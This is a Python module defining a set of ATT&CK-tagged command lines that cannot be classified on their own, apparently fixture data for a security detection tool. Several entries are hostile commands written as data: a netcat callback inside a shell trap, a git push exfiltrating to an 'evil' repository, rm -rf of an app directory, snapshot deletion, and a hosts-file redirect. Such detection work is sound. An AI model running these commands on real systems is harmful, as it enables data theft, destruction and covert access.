"""Commands that say too little by themselves to be told, with what tells them otherwise where something does."""

__all__ = ["UNSEEN"]

UNSEEN: frozenset[str] = frozenset(
    {
        # people and jobs do the very same
        "T1609: kubectl exec -it pod -- sh, by root, detached",
        "T1546.005: sh -c trap 'nc 198.51.100.66 9' EXIT, by root, detached",
        "T1562.004: iptables -I INPUT -p tcp --dport 4444 -j ACCEPT, by root, detached",
        "T1562.006: sysctl -w kernel.printk=0, by root, detached",
        "T1140: openssl enc -aes-256-cbc -d -in /tmp/a -out /tmp/b, by root, detached",
        "T1563.001: tmux -S /tmp/tmux-1000/default attach, by root, detached",
        "T1114: cat /var/mail/root, by root, detached",
        "T1205: knockd -d, by root, detached",
        "T1567: git push https://x@github.com/evil/x, by the application server",
        "T1485: rm -rf /srv/app, by the application server",
        "T1490: btrfs subvolume delete /.snapshots/1, by root, detached",
        "T1491: cp /tmp/index.html /var/www/html/index.html, by root, detached",
        "T1052.001: cp -r /srv/share /media/usb0, by the application server",
        # a program that says nothing of itself
        "T1071.001: /usr/local/bin/upd, by the application's account, detached",
        "T1568: /usr/bin/python3 /home/ana/agent.py, by the application's account, detached",
        "T1496: cpulimit -l 80 -- /opt/a/t, by the application's account, detached",
        "T1486: /opt/enc --encrypt /srv, by the application's account, detached",
        "T1564.006: qemu-system-x86_64 -m 256 -nographic -hda /tmp/a.img -nic user,rest..., by the application's account, detached",
        # told by what follows: the guard that is missed, the file that changed
        "T1562.001: kill -9 32, by root, detached",
        "T1565: sed -i s/10.0.0.6/198.51.100.66/ /etc/hosts, by root, detached",
    }
)
